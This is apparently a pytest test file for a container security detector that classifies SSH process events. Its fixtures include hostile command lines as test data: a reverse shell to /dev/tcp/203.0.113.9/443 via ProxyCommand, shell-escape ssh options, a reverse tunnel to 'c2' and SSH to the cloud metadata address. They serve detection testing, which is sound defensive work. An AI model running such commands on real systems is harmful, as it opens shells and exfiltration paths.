"""Headlines and findings of events: local shells, init scripts, addresses of the host, split arguments."""

import shlex
from typing import Any

import pytest

from app.domain.event import Event, event_from_ecs
from app.domain.ssh import FindingKind, ForwardKind, SshRole


def read(line: str, *, name: str | None = None, **fields: Any) -> Event:
    """Return the event of a command line in the container `web`; `fields` are further ECS fields."""
    args = shlex.split(line)
    process = {"name": name or args[0].rpartition("/")[2], "args": args}
    return event_from_ecs({"container": {"name": "web"}, "process": process} | fields)


LOCAL_SHELLS = [
    "ssh -o 'ProxyCommand=;sh 0<&2 1>&2' x",
    "ssh -oProxyCommand='/bin/bash -i' x",
    "ssh -o 'ProxyCommand=bash -c \"bash -i >& /dev/tcp/203.0.113.9/443 0>&1\"' x",
    "ssh -oPermitLocalCommand=yes -oLocalCommand=/bin/sh localhost",
    "ssh -o 'KnownHostsCommand=/bin/zsh -i' x",
    "autossh -M 0 -o 'ProxyCommand exec dash' x",
]
NO_LOCAL_SHELLS = [
    "ssh -o 'ProxyCommand=nc %h %p' x",
    "ssh -o 'ProxyCommand=sh -c \"nc %h %p\"' x",
    "ssh -o 'ProxyCommand=ssh -W %h:%p bastion' x",
    "ssh -o ProxyCommand=/opt/sh/connect x",
    "ssh -o LocalCommand=/bin/sh x",  # not permitted
    "ssh -o ProxyCommand=none x",
    "ssh x bash -i",
]


@pytest.mark.parametrize("line", LOCAL_SHELLS)
def test_a_command_that_starts_a_shell_is_the_headline(line: str) -> None:
    event = read(line)
    assert event.headline == f"{shlex.split(line)[0]} runs a local shell in web"
    assert event.ssh is not None
    (finding,) = (f for f in event.ssh.findings if f.kind is FindingKind.LOCAL_SHELL)
    assert finding.message.startswith("Starts a shell in this container, not on the remote host: ")
    assert finding.risk == 25


@pytest.mark.parametrize("line", NO_LOCAL_SHELLS)
def test_a_command_that_starts_no_shell_is_not_the_headline(line: str) -> None:
    assert read(line).headline == "ssh to x"


@pytest.mark.parametrize(
    ("line", "executable", "headline"),
    [
        ("/bin/sh /etc/init.d/ssh start", "/usr/bin/dash", "a script starts the SSH server in web"),
        ("ssh /etc/init.d/ssh start", "/bin/dash", "a script starts the SSH server in web"),
        ("sh /etc/init.d/sshd restart", "/bin/busybox", "a script starts the SSH server in web"),
        ("/bin/sh /etc/init.d/ssh status", "/usr/bin/dash", "/etc/init.d/ssh status in web"),
        ("/bin/sh /etc/init.d/ssh", "/usr/bin/dash", "/etc/init.d/ssh in web"),
    ],
)
def test_an_init_script_of_the_server_is_not_a_client(
    line: str, executable: str | None, headline: str
) -> None:
    """The kernel names a process that runs a script after the script (execve(2))."""
    args = shlex.split(line)
    process = {"name": "ssh", "args": args, "executable": executable}
    event = event_from_ecs({"container": {"name": "web"}, "process": process})
    assert event.headline == headline
    assert event.ssh is not None
    assert event.ssh.role is SshRole.DAEMON
    assert event.ssh.destination is None
    assert event.ssh.has_finding(FindingKind.DAEMON_STARTED) is ("starts" in headline)


@pytest.mark.parametrize("executable", ["/usr/bin/ssh", None, "/opt/x"])
@pytest.mark.parametrize("argv0", ["ssh", "sh"])
def test_a_client_cannot_pass_for_an_init_script(executable: str | None, argv0: str) -> None:
    """ssh connects to `/etc/init.d/ssh` if its configuration has a host of this name (ssh_config(5))."""
    args = [argv0, "/etc/init.d/ssh", "status"]
    process = {"name": "ssh", "args": args, "executable": executable}
    event = event_from_ecs({"container": {"name": "web"}, "process": process})
    assert event.headline == "ssh to /etc/init.d/ssh"


def test_arguments_in_one_text_are_split_and_hide_no_forward() -> None:
    process = {"name": "ssh", "args": "ssh -fNR '8080:localhost:80' root@c2"}
    event = event_from_ecs({"container": {"name": "web"}, "process": process})
    assert event.headline == "Reverse tunnel out of web to c2"
    assert event.ssh is not None
    assert [forward.kind for forward in event.ssh.forwards] == [ForwardKind.REMOTE]
    (finding,) = (f for f in event.ssh.findings if f.kind is FindingKind.ARGUMENTS_SPLIT)
    assert "sent the arguments as one text" in finding.message
    assert finding.risk == 0


@pytest.mark.parametrize(
    ("name", "args"),
    [("sshd", ["sshd: ana [priv]"]), ("my tool", ["my tool"]), ("ssh", ["ssh", "-V"])],
)
def test_a_title_or_separate_arguments_are_not_split(name: str, args: list[str]) -> None:
    event = event_from_ecs({"process": {"name": name, "args": args}})
    assert event.process.args == tuple(args)
    assert event.ssh is None or not event.ssh.has_finding(FindingKind.ARGUMENTS_SPLIT)


def test_the_pod_is_named_if_the_container_has_no_name() -> None:
    document = {"process": {"name": "sshd", "args": ["sshd", "-D"]}, "container": {"id": "3f" * 32}}
    assert event_from_ecs(document).headline == "sshd started inside 3f3f3f3f3f3f"
    pod = {"orchestrator": {"resource": {"name": "checkout-7d9f"}}}
    assert event_from_ecs(document | pod).headline == "sshd started inside pod checkout-7d9f"


NODE_ADDRESSES = [
    ("ssh root@172.17.0.1", "172.17.0.1 is usually the address of the container's host"),
    ("ssh root@172.31.0.1", "172.31.0.1 is usually the address of the container's host"),
    ("ssh -p 22 172.17.1", "172.17.0.1 is usually the address of the container's host"),
    ("ssh ::ffff:172.17.0.1", "::ffff:172.17.0.1 is usually the address of the container's host"),
    ("ssh HOST.docker.internal.", "host.docker.internal. is a name of the container's host"),
    ("ssh -J 10.88.0.1 db", "10.88.0.1 is usually the address of the container's host"),
    ("dbclient root@172.17.0.1/2222", "172.17.0.1 is usually the address of the container's host"),
    ("scp x root@10.4.4.4:", "10.4.4.4 is an address of the container's host"),
    ("ssh fd00::7", "fd00::7 is an address of the container's host"),
    ("ssh 169.254.169.254", "169.254.169.254 is the metadata service of the cloud"),
    ("ssh fd00:ec2::254", "fd00:ec2::254 is the metadata service of the cloud"),
    ("ssh metadata.google.internal", "metadata.google.internal is the metadata service"),
    ("ssh fe80::1%eth0", "fe80::1%eth0 is a link-local address"),
    ("ssh 169.254.7.7", "169.254.7.7 is a link-local address"),
]
OTHER_ADDRESSES = [
    "ssh root@172.17.0.5",
    "ssh 172.16.0.1",
    "ssh 10.4.4.5",
    "ssh localhost",
    "ssh 127.0.0.1",
    "ssh fd00::8",
    "ssh web ssh root@172.17.0.1",
    "sshd -D",
]


@pytest.mark.parametrize(("line", "reason"), NODE_ADDRESSES)
def test_a_connection_to_the_host_or_to_the_metadata_service_is_the_first_finding(
    line: str, reason: str
) -> None:
    event = read(line, host={"ip": ["127.0.0.1", "10.4.4.4", "fd00::7"]})
    assert event.ssh is not None
    finding = event.ssh.findings[0]
    assert (finding.kind, finding.risk) == (FindingKind.NODE_ADDRESS, 20)
    assert finding.message.startswith(reason)


@pytest.mark.parametrize("line", OTHER_ADDRESSES)
def test_other_addresses_are_no_finding(line: str) -> None:
    event = read(line, host={"ip": ["127.0.0.1", "10.4.4.4", "fd00::7"]})
    assert event.ssh is not None
    assert not event.ssh.has_finding(FindingKind.NODE_ADDRESS)
